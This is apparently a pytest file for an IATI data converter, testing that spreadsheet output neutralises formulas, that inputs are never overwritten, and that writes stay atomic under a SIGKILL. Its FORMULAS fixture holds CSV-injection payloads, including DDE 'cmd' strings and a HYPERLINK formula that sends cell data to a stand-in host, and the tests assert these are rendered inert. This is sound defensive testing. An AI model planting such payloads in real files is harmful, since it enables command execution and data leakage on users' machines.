"""Output safety: formulas neutralised in spreadsheets, inputs never overwritten, writes atomic.

The streaming case converts a 1,000,000-row CSV in a subprocess and samples its resident memory
while it runs, then kills it with SIGKILL in the middle of writing: memory must stay flat, and the
output must still be the old file (the new one is only ever visible whole).
"""

from __future__ import annotations

import csv
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from openpyxl import load_workbook

from hostile import corpus
from hostile.harness import MIB, TESTS, cli

# the four starts of a formula (CSV injection), each in a field that reaches a spreadsheet cell
FORMULAS = {
    "title": "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")",
    "description": "+cmd|' /C calc'!A0",
    "org": "-2+3+cmd|' /C calc'!A0",
    "program": "@SUM(1+1)*cmd|' /C calc'!A0",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _formula_activity_file(folder: Path) -> Path:
    body = corpus.activity(FORMULAS["title"]).replace(
        "A record built by the hostile-input tests.", FORMULAS["description"]).replace(
        '<participating-org role="1" ref="GB-GOV-1" type="10"><narrative>Hostile tests</narrative>',
        f'<participating-org role="4" ref="GB-GOV-1" type="10"><narrative>{FORMULAS["org"]}</narrative>')
    body = body.replace("</iati-activity>", f'<other-identifier ref="{FORMULAS["program"]}" type="A1"/>'
                        "</iati-activity>")
    text = corpus.document(body).replace("&", "&amp;")
    path = folder / "formulas.xml"
    path.write_text(text, encoding="utf-8")
    return path


def _unsafe(value: str) -> bool:
    """A cell a spreadsheet would evaluate; a plain negative number is just a number."""
    if not value.startswith(DANGEROUS):
        return False
    try:
        float(value)
    except ValueError:
        return True
    return False


def _csv_cells(path: Path, *, headers: bool) -> list[str]:
    files = sorted(path.glob("*.csv")) if path.is_dir() else [path]
    cells: list[str] = []
    for file in files:
        with file.open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        cells += [cell for row in (rows if headers else rows[1:]) for cell in row]
    return cells


def _xlsx_cells(path: Path, *, headers: bool) -> list[str]:
    workbook = load_workbook(path, read_only=False)
    cells: list[str] = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(min_row=1 if headers else 2):
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


@pytest.mark.parametrize(("target", "name"), [("gac-csv", "out.csv"), ("gac-xlsx", "out.xlsx"), ("tables", "out.xlsx")])
def test_formula_cells_are_neutralised_and_come_back(target: str, name: str, tmp_path: Path) -> None:
    source = _formula_activity_file(tmp_path)
    output = tmp_path / name
    outcome = cli("convert", source, "-o", output, "--to", target)
    assert outcome.code == 0, outcome.text
    headers = True
    cells = _xlsx_cells(output, headers=headers) if name.endswith(".xlsx") else _csv_cells(output, headers=headers)
    assert [c for c in cells if _unsafe(c)] == []
    written = [c for c in cells if any(value in c for value in FORMULAS.values())]
    assert written and all(c.startswith("'") for c in written), written
    if target == "tables":  # the lossless format brings every value back exactly
        back = tmp_path / "back.xml"
        assert cli("convert", output, "--from", "tables", "-o", back).code == 0
        text = back.read_text(encoding="utf-8")
        for value in FORMULAS.values():
            assert value.replace("&", "&amp;") in text


def test_tables_csv_headers_are_not_formula_starts(tmp_path: Path) -> None:
    from iaticonv.formats.iati_xml.xml_io import IatiXmlReader
    from iaticonv.formats.tables.writer import TablesWriter

    folder = tmp_path / "tables"
    TablesWriter().write_to(folder, IatiXmlReader(_formula_activity_file(tmp_path)).records())
    assert [c for c in _csv_cells(folder, headers=True) if _unsafe(c)] == []


def test_output_equal_to_an_input_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "in.xml"
    source.write_bytes(corpus.FCDO.read_bytes())
    link = tmp_path / "link.xml"
    os.link(source, link)
    for output in (source, tmp_path / "." / "in.xml", link):
        for argv in (["convert", source, "-o", output, "--overwrite"], ["validate", source, "-o", output]):
            outcome = cli(*argv)
            outcome.assert_clean_failure("the output path is also an input", "choose another output path")
    assert source.read_bytes() == corpus.FCDO.read_bytes()


def test_existing_output_needs_overwrite(tmp_path: Path) -> None:
    output = tmp_path / "out.json"
    output.write_text("keep me", encoding="utf-8")
    split = tmp_path / "split"
    split.mkdir()
    (split / "GB-1-103662-101.json").write_text("keep me too", encoding="utf-8")
    cli("convert", corpus.FCDO, "-o", output).assert_clean_failure("already exists", "--overwrite")
    cli("convert", corpus.FCDO, "-o", split, "--split", "--to", "json").assert_clean_failure("already exists")
    assert output.read_text(encoding="utf-8") == "keep me"
    assert (split / "GB-1-103662-101.json").read_text(encoding="utf-8") == "keep me too"
    assert cli("convert", corpus.FCDO, "-o", output, "--overwrite").code == 0
    assert output.read_text(encoding="utf-8").startswith("{")
    assert oct(output.stat().st_mode & 0o777) != oct(0o600)  # a normal file, not mkstemp's private mode


def _million_rows(path: Path, rows: int = 1_000_000) -> Path:
    with path.open("w", encoding="utf-8", newline="") as out:
        out.write("Project Number,Title,Status,Start Date,Country,Maximum Contribution\r\n")
        out.writelines(f"P{i:09d},Project number {i},Closed,2020-04-01,Kenya 100%,\"$1,{i % 1000:03d}\"\r\n"
                       for i in range(rows))
    return path


def _rss_mb(pid: int) -> float:
    with Path(f"/proc/{pid}/status").open(encoding="ascii") as handle:
        for line in handle:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


@pytest.mark.slow
def test_million_row_csv_streams_flat_and_a_killed_writer_leaves_the_old_file(tmp_path: Path) -> None:
    """Memory is sampled for up to 20 s of conversion; then SIGKILL in mid-write.

    The whole million rows take minutes at the GAC reader's pace (see bench/hostile_big_csv.py), so
    the test watches the stream long enough to see memory level off while records and output grow.
    """
    source = _million_rows(tmp_path / "million.csv")
    assert source.stat().st_size > 40 * MIB
    output = tmp_path / "million.xml"
    output.write_text("old content\n", encoding="utf-8")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(TESTS), os.environ.get("PYTHONPATH", "")])}
    proc = subprocess.Popen([sys.executable, "-m", "hostile.launch", "convert", str(source), "-o", str(output),
                             "--overwrite"], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env=env)
    samples: list[tuple[float, float, int]] = []  # (seconds, RSS MB, bytes written so far)
    started = time.monotonic()
    try:
        while time.monotonic() - started < 20 and proc.poll() is None:
            time.sleep(0.5)
            parts = list(tmp_path.glob(".million.xml.*.part"))
            samples.append((time.monotonic() - started, _rss_mb(proc.pid), parts[0].stat().st_size if parts else 0))
        assert proc.poll() is None, "the conversion ended early: " + proc.stderr.read().decode() if proc.stderr else ""
        os.kill(proc.pid, signal.SIGKILL)
    finally:
        proc.wait(10)
        if proc.stderr:
            proc.stderr.close()
    assert output.read_text(encoding="utf-8") == "old content\n"  # never half a file
    written = [s for s in samples if s[2] > 0]
    assert len(written) >= 4 and written[-1][2] > written[0][2], samples  # the output grows while rows stream
    early, late = written[0][1], max(rss for _t, rss, _n in written)
    assert late < 200, samples
    # Measured against the data, not the clock: the reader keeps each project number for the duplicate
    # check (~120 bytes a row, about 0.07 MB per MB of XML written); holding the records themselves
    # would cost more than the XML they become.
    output_mb = (written[-1][2] - written[0][2]) / MIB
    assert late - early < 5 + 0.15 * output_mb, f"memory grows with the records: {samples}"
